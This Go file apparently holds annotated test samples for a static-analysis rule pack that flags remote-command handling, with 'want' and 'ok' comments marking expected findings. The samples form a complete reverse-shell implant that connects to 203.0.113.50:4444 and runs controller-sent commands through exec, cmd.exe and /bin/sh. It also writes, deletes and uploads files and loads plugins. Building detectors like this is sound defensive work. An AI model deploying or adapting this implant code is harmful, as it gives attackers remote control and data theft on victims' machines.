// Annotated samples for the remote-command pack (Go): a reverse-shell implant whose
// controller sends one command per line.
package main

import (
	"bufio"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"plugin"
	"strconv"
	"strings"
	"syscall"
	"time"
)

type Bot struct {
	conn net.Conn
	r    *bufio.Reader
}

func (b *Bot) connect(addr string) error {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	b.conn = conn
	b.r = bufio.NewReader(conn)
	return nil
}

func (b *Bot) reply(s string) {
	b.conn.Write([]byte(s + "\n"))
}

// loop is the main dispatcher: a switch over the first word of each line.
func (b *Bot) loop() {
	for {
		line, err := b.r.ReadString('\n')
		if err != nil {
			return
		}
		parts := strings.Fields(strings.TrimSpace(line))
		if len(parts) == 0 {
			continue
		}
		cmd, args := parts[0], parts[1:]
		switch cmd {
		case "exec": // want "remote-command/dispatcher"
			out, err := exec.Command(args[0], args[1:]...).CombinedOutput() // want "remote-command/process-from-network"
			if err != nil {
				b.reply("ERR " + err.Error())
			}
			b.reply(string(out))
		case "put":
			data, _ := base64.StdEncoding.DecodeString(args[1])
			os.WriteFile(args[0], data, 0o755) // want "remote-command/file-operation-from-network"
		case "rm":
			os.RemoveAll(args[0]) // want "remote-command/file-operation-from-network"
		case "mv":
			os.Rename(args[0], args[1]) // want "remote-command/file-operation-from-network"
		case "kill":
			pid, _ := strconv.Atoi(args[0])
			syscall.Kill(pid, syscall.SIGKILL)
		case "load":
			p, err := plugin.Open(args[0])
			if err == nil {
				if sym, err := p.Lookup("Run"); err == nil {
					sym.(func())()
				}
			}
		case "restart":
			exec.Command("systemctl", "restart", "edr-agent").Run() // ok: a constant command line
		case "sleep":
			n, _ := strconv.Atoi(args[0])
			time.Sleep(time.Duration(n) * time.Second)
		case "exit":
			return
		}
	}
}

// shell runs a whole line through the shell, with the line chosen by prefix.
func (b *Bot) shell() {
	for {
		line, err := b.r.ReadString('\n')
		if err != nil {
			return
		}
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "cmd ") { // want "remote-command/dispatcher"
			c := exec.Command("cmd.exe", "/C", strings.TrimPrefix(line, "cmd ")) // want "remote-command/process-from-network"
			c.Stdout, c.Stderr = b.conn, b.conn
			c.Run()
		} else if strings.HasPrefix(line, "download ") {
			b.download(strings.TrimPrefix(line, "download "))
		} else if strings.HasPrefix(line, "upload ") {
			b.upload(strings.TrimPrefix(line, "upload "))
		} else if line == "ping" {
			b.reply("pong")
		}
	}
}

// download saves bytes that follow the command under a name the controller chose.
func (b *Bot) download(name string) {
	f, err := os.Create(filepath.Join(os.TempDir(), name)) // want "remote-command/file-operation-from-network"
	if err != nil {
		return
	}
	defer f.Close()
	io.CopyN(f, b.r, 1<<20)
}

func (b *Bot) upload(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	b.conn.Write(data)
}

// handlers is a command table: the controller's verb picks the function.
var handlers = map[string]func(b *Bot, args []string){
	"run":  runHandler,
	"del":  delHandler,
	"info": infoHandler,
}

func runHandler(b *Bot, args []string) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	out, _ := exec.CommandContext(ctx, "/bin/sh", "-c", strings.Join(args, " ")).Output() // want "remote-command/process-from-network"
	b.reply(string(out))
}

func delHandler(b *Bot, args []string) {
	for _, p := range args {
		os.Remove(p) // want "remote-command/file-operation-from-network"
	}
}

func infoHandler(b *Bot, args []string) {
	h, _ := os.Hostname()
	b.reply(h)
}

// tableLoop calls through the table directly.
func (b *Bot) tableLoop() {
	for {
		line, err := b.r.ReadString('\n')
		if err != nil {
			return
		}
		f := strings.Fields(line)
		if len(f) == 0 {
			continue
		}
		handlers[f[0]](b, f[1:]) // want "remote-command/dispatcher"
	}
}

// tableLookup checks the table with comma-ok before calling the handler it found.
func (b *Bot) tableLookup() {
	sc := bufio.NewScanner(b.conn)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) == 0 {
			continue
		}
		if h, ok := handlers[f[0]]; ok { // want "remote-command/dispatcher"
			h(b, f[1:])
		} else {
			b.reply("unknown command " + f[0])
		}
	}
}

// readRaw reads a fixed-size frame and starts the process it names.
func (b *Bot) readRaw() {
	buf := make([]byte, 512)
	n, err := b.conn.Read(buf)
	if err != nil {
		return
	}
	argv := strings.Split(string(buf[:n]), "\x00")
	proc, err := os.StartProcess(argv[0], argv, &os.ProcAttr{Files: []*os.File{nil, os.Stdout, os.Stderr}}) // want "remote-command/process-from-network"
	if err == nil {
		proc.Release()
	}
}

// localCLI is the agent's own command-line interface: os.Args is not network input.
func localCLI() {
	if len(os.Args) < 2 {
		return
	}
	switch os.Args[1] {
	case "install": // ok: a local argument parser, not a remote command
		exec.Command("sc.exe", "create", "edr-agent", "binPath=", os.Args[0]).Run() // ok: local arguments
	case "uninstall":
		os.RemoveAll(`C:\ProgramData\Vendor`) // ok: a constant path
	case "run-script":
		exec.Command("powershell.exe", "-File", os.Args[2]).Run() // ok: the path is a local argument
	}
}

// runScheduled dispatches on a schedule file installed with the agent: local input.
func runScheduled() {
	data, err := os.ReadFile(`/etc/edr-agent/schedule`)
	if err != nil {
		return
	}
	for _, job := range strings.Split(string(data), "\n") {
		switch strings.TrimSpace(job) {
		case "scan": // ok: the verbs come from a local file, not from the network
			exec.Command("/opt/edr/bin/scan", "--quick").Run()
		case "update":
			exec.Command("/opt/edr/bin/update").Run()
		case "rotate-logs":
			os.Remove("/var/log/edr-agent.log.1")
		}
	}
}

// status answers the controller with constants and a status line; the verb only selects a
// reply.
func (b *Bot) status() {
	line, _ := b.r.ReadString('\n')
	switch strings.TrimSpace(line) {
	case "version":
		b.reply("7.1.0")
	case "uptime":
		b.reply(fmt.Sprint(time.Since(time.Now())))
	}
}

// nextTask reads one task into named results and ends with a bare return, as generated
// and hand-written Go often does.
func (b *Bot) nextTask() (verb string, arg string, err error) {
	line, err := b.r.ReadString('\n')
	if err != nil {
		return
	}
	verb, arg, _ = strings.Cut(strings.TrimSpace(line), " ")
	return
}

// localTask has named results too, but what it returns is a constant.
func localTask() (verb string, err error) {
	verb = "whoami"
	return
}

func (b *Bot) tasks() {
	_, arg, _ := b.nextTask()
	exec.Command("/bin/sh", "-c", arg).Run() // want "remote-command/process-from-network"
	verb, _ := localTask()
	exec.Command(verb).Run() // ok: a constant returned through a named result
}

func main() {
	localCLI()
	runScheduled()
	b := &Bot{}
	if err := b.connect("203.0.113.50:4444"); err != nil {
		return
	}
	b.status()
	go b.shell()
	go b.tableLoop()
	go b.tableLookup()
	go b.readRaw()
	go b.tasks()
	b.loop()
}
